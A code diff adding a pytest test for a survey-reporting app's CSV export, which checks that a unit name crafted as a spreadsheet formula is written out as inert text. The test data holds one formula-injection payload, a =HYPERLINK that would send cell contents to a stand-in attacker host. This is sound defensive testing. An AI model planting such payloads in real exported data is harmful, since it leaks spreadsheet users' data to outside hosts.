@@ -144,3 +144,29 @@ def test_refresh_rebuilds_months_and_then_has_nothing_to_do(app, runner, ledger)
     assert "up to date" in runner.invoke(args=["report", "refresh"]).output
     full = runner.invoke(args=["report", "refresh", "--full"])
     assert full.exit_code == 0 and f"{len(months)} month(s) rebuilt" in full.output
+
+
+def test_csv_export_neutralises_formulas_in_names_and_keeps_numbers(app, runner, ledger, tmp_path):
+    """A unit named like a formula (the review's =HYPERLINK) goes out as text; figures stay numbers."""
+    from sqlalchemy import select
+
+    from survey.db import get_session
+    from survey.models import Unit
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Xã Minh Tiến")'
+    with app.app_context():
+        session = get_session()
+        session.scalar(select(Unit).filter_by(code="X1")).name = evil
+        session.commit()
+    out = tmp_path / "bao-cao.csv"
+    result = export(runner, "--format", "csv", "--by", "unit", "--level", "criterion", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    records = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    names = {r["unit_name"] for r in records if r["unit"] == "X1"}
+    assert names == {"'" + evil}
+    for record in records:
+        for value in record.values():
+            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(value.replace(",", "."))  # only plain numbers may start that way
+    table = pd.read_csv(out, encoding="utf-8-sig")
+    assert table["n"].dtype.kind == "i" and table["pct"].dtype.kind == "f"
